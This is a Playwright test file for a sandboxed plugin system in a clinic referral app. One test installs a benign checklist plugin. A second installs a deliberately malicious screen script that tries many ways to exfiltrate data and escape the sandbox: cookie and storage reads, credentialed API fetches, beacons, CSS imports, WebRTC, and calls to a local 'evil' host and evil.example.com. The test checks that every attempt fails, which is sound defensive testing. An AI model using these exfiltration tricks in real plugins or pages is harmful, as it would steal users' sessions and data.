import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, type FrameLocator, type Page } from '@playwright/test'
import { writePackage } from '../core/kernel/server/packages/packageFile'
import type { SandboxDefinition } from '../core/kernel/shared/SandboxDefinition'
import { declarationsOf } from '../core/kernel/shared/sandboxedPackage'
import { query } from './database'
import { testAs } from './signedIn'
import { toastSays } from './toasts'
import { violations } from './violations'

const test = testAs('superadmin')

const access = ['viewModule']
/** A round through the referrals, with a tick for each family that was visited. */
const checklist: SandboxDefinition = {
  grants: { calls: ['POST /api/Referral/List'], hosts: [] },
  module: {
    id: 8811,
    title: 'Visit checklist',
    permissions: { viewModule: { offset: 0, name: 'View Module On SideBar' } },
  },
  menu: { title: 'Visit checklist', icon: 'pi-check-square', path: '/visit-checklist', section: null, order: 900 },
  routes: [
    { method: 'GET', path: '/Visits', access, summary: 'See visits' },
    { method: 'POST', path: '/Tick/:referral', access, summary: 'Tick visits' },
  ],
  screens: [
    {
      title: 'Visit checklist',
      path: '/visit-checklist',
      access,
      script: 'client/visits.js',
      styles: ['client/visits.css'],
    },
    { title: 'About the checklist', path: '/visit-checklist/about', access, script: 'client/about.js', styles: [] },
  ],
}
const checklistFiles = {
  'server/index.js': `
export default {
  'GET /Visits': async (request, host) => {
    const { status, body } = await host.call('POST', '/api/Referral/List', { limit: 8 })
    if (status !== 200) throw host.error(status, body.message)
    const ticks = new Set((await host.store.list('tick/')).map(({ key }) => key.slice(5)))
    return body.data.map(({ id, number }) => ({
      id, title: number, done: ticks.has(String(id)) }))
  },
  'POST /Tick/:referral': async ({ params, body, person }, host) => {
    const key = 'tick/' + params.referral
    if (body.done) await host.store.put(key, { by: person.id })
    else await host.store.delete(key)
    return body.done
  },
}`,
  'client/visits.css': '.done { text-decoration: line-through }',
  'client/visits.js': `
(async () => {
  const { person } = await host.ready
  const make = (tag, props = {}, ...children) => {
    const element = Object.assign(document.createElement(tag), props)
    element.append(...children)
    return element
  }
  const list = make('ul', { className: 'list' })
  for (const { id, title, done } of await host.call('GET', '/Visits')) {
    const box = make('input', { type: 'checkbox', checked: done })
    const name = make('span', {}, title)
    name.classList.toggle('done', done)
    box.addEventListener('change', async () => {
      try {
        name.classList.toggle('done', await host.call('POST', '/Tick/' + id, { done: box.checked }))
        host.toast(title + (box.checked ? ' is visited' : ' is open again'))
      } catch (error) {
        box.checked = !box.checked
        host.toast(error.message, 'error')
      }
    })
    list.append(make('li', {}, make('label', {}, box, name)))
  }
  const about = make('button', { type: 'button' }, 'About')
  about.addEventListener('click', () => host.navigate('/visit-checklist/about'))
  document.body.append(make('p', { className: 'muted' }, 'Visits of ' + person.name), make('div', { className: 'card' }, list), make('p'), about)
})()`,
  'client/about.js': `host.ready.then(() => document.body.append('Made by a clinic nearby.'))`,
}

/** Installs a package as the settings do, and waits until the product works with it. */
async function install(page: Page, id: string, sandbox: SandboxDefinition, contents: Readonly<Record<string, string>>) {
  const manifest = {
    format: 1,
    id,
    version: '1.0.0',
    title: sandbox.module.title,
    description: '',
    publisher: 'Clinic nearby',
    licence: 'MIT',
    api: '^3.0.0',
    builtFor: '0.3.0',
    runs: 'sandboxed',
    server: 'server/index.js',
    sandbox,
    declares: declarationsOf(id, sandbox),
  } as const
  const files = new Map(Object.entries(contents).map(([name, text]) => [name, Buffer.from(text)]))
  await query(`insert into core.plugin_package (plugin, version, manifest, content) values ($1, '1.0.0', $2, $3)`, [
    id,
    JSON.stringify(manifest),
    await writePackage({ manifest, files }),
  ])
  await query(`insert into core.plugin_setting (plugin, is_on, version) values ($1, true, '1.0.0')`, [id])
  await isOn(page, id, true)
}

async function uninstall(page: Page, id: string): Promise<void> {
  await query('delete from core.plugin_setting where plugin = $1', [id])
  await isOn(page, id, false)
  await query('delete from core.plugin_package where plugin = $1', [id])
  await query('delete from core.plugin_value where plugin = $1', [id])
}

async function isOn(page: Page, id: string, expected: boolean): Promise<void> {
  await query(`select pg_notify('core_plugins', '')`)
  await expect
    .poll(async () => {
      const response = await page.request.get('/api/deployment')
      const { data } = (await response.json()) as { data: { packages?: readonly { readonly id: string }[] } }
      return data.packages?.some((one) => one.id === id) ?? false
    })
    .toBe(expected)
}

const frameOf = (page: Page): FrameLocator => page.frameLocator('iframe[title*="Clinic nearby"]')

test('a sandboxed plugin shows its screen, ticks a visit, and follows the look of the product', async ({ page }) => {
  await install(page, 'visitChecklist', checklist, checklistFiles)
  try {
    await page.goto('/visit-checklist')
    await expect(page.getByRole('heading', { level: 1, name: 'Visit checklist' })).toBeVisible()
    await expect(page.getByText('By Clinic nearby (not verified)')).toBeVisible()
    const box = frameOf(page).getByRole('checkbox').first()
    await expect(box).not.toBeChecked()
    await box.check()
    await toastSays(page, /is visited/)
    await page.reload()
    await expect(frameOf(page).getByRole('checkbox').first()).toBeChecked()
    expect(await violations(page)).toEqual([])

    const color = () =>
      frameOf(page)
        .locator('body')
        .evaluate((body) => getComputedStyle(body).color)
    const light = await color()
    await page.emulateMedia({ colorScheme: 'dark' })
    await expect.poll(color).not.toBe(light)

    await frameOf(page).getByRole('button', { name: 'About' }).click()
    await expect(page.getByRole('heading', { level: 1, name: 'About the checklist' })).toBeVisible()
    await expect(frameOf(page).getByText('Made by a clinic nearby.')).toBeVisible()
    await page.goBack()
    await expect(frameOf(page).getByRole('checkbox').first()).toBeChecked()
  } finally {
    await uninstall(page, 'visitChecklist')
  }
})

/** A host that the screen wants to reach; it notes whoever comes, by TCP or UDP. */
async function startEvil() {
  const visits: string[] = []
  const server = createServer((request, response) => {
    visits.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end('x')
  })
  server.on('connection', () => visits.push('a connection'))
  server.listen(0, '127.0.0.1')
  const socket = createSocket('udp4')
  socket.on('message', () => visits.push('a packet'))
  socket.bind(0, '127.0.0.1')
  await Promise.all([once(server, 'listening'), once(socket, 'listening')])
  // An address of the server, which node types as one of several kinds.
  const { port } = server.address() as AddressInfo
  return {
    visits,
    url: `http://127.0.0.1:${port}/`,
    stun: `stun:127.0.0.1:${socket.address().port}`,
    close() {
      server.close()
      socket.close()
    },
  }
}

/** Each trick is tried; what it got, or why it got nothing, is written into the screen. */
const tricks = (url: string, stun: string) => `
const E = ${JSON.stringify(url)}
const event = (target, name, bad = 'error') => new Promise((good, no) => {
  target['on' + name] = () => good('got it'); target['on' + bad] = () => no(new Error('refused')) })
const link = 'http://www.w3.org/1999/xhtml'
const all = {
  'own origin': () => origin === 'null' ? Promise.reject(new Error('none')) : origin,
  cookie: () => document.cookie,
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => event(indexedDB.open('x'), 'success'),
  caches: () => caches.keys(),
  'service worker': () => navigator.serviceWorker.register('/x.js'),
  'document of the product': () => parent.document.title,
  'variables of the product': () => parent.host ?? parent.fetch,
  'top navigation': () => { top.location = E + 'top'; return 'moved' },
  'parent navigation': () => { parent.location.href = E + 'parent'; return 'moved' },
  popup: () => window.open(E + 'popup') ?? 'opened',
  'API with the session': () => fetch('/api/user/me', { credentials: 'include' }).then((r) => r.text()),
  'API by XHR': () => { const x = new XMLHttpRequest(); x.open('GET', '/api/user/me'); x.withCredentials = true; x.send(); return event(x, 'load') },
  'API as a script': () => import('/api/user/me'),
  'API as a picture': () => { const i = new Image(); i.src = '/api/user/me'; return event(i, 'load') },
  'script of the product': () => import('/assets/index.js'),
  fetch: () => fetch(E + 'fetch').then((r) => r.text()),
  'fetch without CORS': () => fetch(E + 'fetch', { mode: 'no-cors' }).then((r) => r.type),
  websocket: () => event(new WebSocket(E.replace('http', 'ws')), 'open'),
  'event source': () => event(new EventSource(E), 'open'),
  picture: () => { const i = new Image(); i.src = E + 'img?data'; return event(i, 'load') },
  video: () => { const v = document.createElement('video'); v.src = E + 'video'; return event(v, 'loadeddata') },
  'module': () => import(E + 'x.js'),
  'data module': () => import('data:text/javascript,export default 1'),
  font: () => new FontFace('x', 'url(' + E + 'font)').load(),
  eval: () => eval('1 + 1'),
  Function: () => new Function('return 1')(),
  'HTML as text': () => { document.body.innerHTML = '<link rel=preconnect href=' + E + '>'; return 'set' },
  'HTML in a template': () => { document.createElement('template').innerHTML = '<p>'; return 'set' },
  'HTML in a fragment': () => document.createRange().createContextualFragment('<p>'),
  'HTML in a frame': () => { document.body.setAttribute('srcdoc', ''); const f = document.createElement('iframe'); f.srcdoc = '<script src=x>'; return 'set' },
  DOMParser: () => new DOMParser().parseFromString('<link>', 'text/html'),
  'own policy': () => trustedTypes.createPolicy('default', { createHTML: (x) => x }),
  'link to connect': () => document.createElement('link'),
  'link in a namespace': () => document.createElementNS(link, 'é:LINK'),
  'link in another document': () => document.implementation.createHTMLDocument('').createElement('link'),
  'link as a root': () => document.implementation.createDocument(link, 'link', null),
  'link by a class': () => { customElements.define('x-link', class extends HTMLLinkElement {}, { extends: 'link' }); return document.createElement('link', { is: 'x-link' }) },
  'link that is there': () => document.querySelector('link, meta, base').cloneNode(),
  'link with ping': () => document.createElement('a'),
  'link in SVG': () => document.createElementNS('http://www.w3.org/2000/svg', 'a'),
  object: () => document.createElement('object'),
  'script element': () => document.createElement('script'),
  'script that is there': () => { const s = document.scripts[0].cloneNode(); s.src = E + 's.js'; document.body.append(s); return 'set' },
  worker: () => event(new Worker('data:text/javascript,1'), 'message'),
  'RTC connection': () => new (window.RTCPeerConnection ?? window.webkitRTCPeerConnection)({ iceServers: [{ urls: ${JSON.stringify(stun)} }] }),
  'history of the tab': () => history.back() ?? 'went',
  clipboard: () => navigator.clipboard.readText(),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  location: () => new Promise((good, no) => navigator.geolocation.getCurrentPosition(good, () => no(new Error('refused')))),
  'call of the API': () => host.call('POST', '/../Referral/List', {}),
  'call with another method': () => host.call('DELETE', '/Visits'),
  'call of another host': () => host.call('GET', '//evil.example.com/x'),
  'call of another plugin': () => host.call('GET', '/../visitChecklist/Visits'),
}
;(async () => {
  await host.ready
  // Without a response of their own.
  navigator.sendBeacon(E + 'beacon', 'data')
  document.body.style.backgroundImage = 'url(' + E + 'css)'
  const style = document.createElement('style')
  style.textContent = '@import url(' + E + 'import.css); @font-face { font-family: z; src: url(' + E + 'face) } body { font-family: z }'
  document.head.append(style)
  const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
  const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
  image.setAttribute('href', E + 'svg')
  svg.append(image)
  document.body.append(svg)
  const form = document.createElement('form')
  form.action = E + 'form'
  document.body.append(form)
  form.submit()
  new BroadcastChannel('session').postMessage({ lastResponseAt: 0 })
  for (const message of [{ id: 1, call: { method: 'POST', path: '/api/Referral/List' } }, { navigate: '/users' }, { type: 'white-glove', port: 1 }])
    parent.postMessage(message, '*')
  host.navigate('/users')
  host.navigate(E)
  host.navigate('javascript:alert(1)')
  for (let n = 0; n < 100; n++) host.toast('Buy now ' + n)
  const got = []
  for (const [name, trick] of Object.entries(all)) {
    try {
      got.push([name, String(await Promise.race([trick(), new Promise((_, no) => setTimeout(no, 3000, new Error('nothing came')))])).slice(0, 80)])
    } catch {}
  }
  const result = document.createElement('pre')
  result.id = 'got'
  result.textContent = JSON.stringify(got)
  document.body.append(result)
})()`

test('a malicious screen gets nothing of the product, and reaches no other host', async ({ page, context }) => {
  const evil = await startEvil()
  const screen = { ...checklist.screens[0]!, title: 'Tricks', path: '/tricks', script: 'client/tricks.js', styles: [] }
  const sandbox: SandboxDefinition = {
    ...checklist,
    module: { ...checklist.module, id: 8812, title: 'Tricks' },
    menu: { ...checklist.menu, title: 'Tricks', path: '/tricks' },
    screens: [
      screen,
      { ...screen, title: 'Leaves', path: '/tricks/leave', script: 'client/leave.js' },
      { ...screen, title: 'Hangs', path: '/tricks/hang', script: 'client/hang.js' },
    ],
  }
  await install(page, 'tricks', sandbox, {
    'server/index.js': 'export default {}',
    'client/tricks.js': tricks(evil.url, evil.stun),
    'client/leave.js': `host.ready.then(() => { location.href = ${JSON.stringify(`${evil.url}leave?data`)} })`,
    'client/hang.js': `host.ready.then(() => { document.body.append('Here'); location.href = '/packages/tricks/1.0.0/screen/0' })`,
  })
  try {
    await page.goto('/tricks')
    await expect(frameOf(page).locator('#got')).toHaveText('[]', { timeout: 60_000 })
    await expect(page).toHaveURL('/tricks')
    expect(context.pages()).toHaveLength(1)
    // Of a hundred toasts, ten at most; each says whose it is.
    expect(await page.getByText(/^Tricks: Buy now/).count()).toBeLessThanOrEqual(10)

    // A screen that goes elsewhere with what it knows.
    await page.goto('/tricks/leave')
    await expect(page.getByText('The screen left its page.')).toBeVisible()
    await page.goto('/tricks/hang')
    await expect(page.getByText('The screen left its page.')).toBeVisible()

    // Its document alone, without the frame, is nobody either.
    await page.goto('/packages/tricks/1.0.0/screen/0')
    expect(await page.evaluate(() => self.origin)).toBe('null')
    expect(
      await page.evaluate(() =>
        fetch('/api/user/me').then(
          () => 'read',
          () => 'refused',
        ),
      ),
    ).toBe('refused')
    expect(
      await page.evaluate(() => {
        try {
          return document.cookie
        } catch {
          return 'refused'
        }
      }),
    ).toBe('refused')
    expect(evil.visits).toEqual([])
  } finally {
    evil.close()
    await uninstall(page, 'tricks')
  }
})
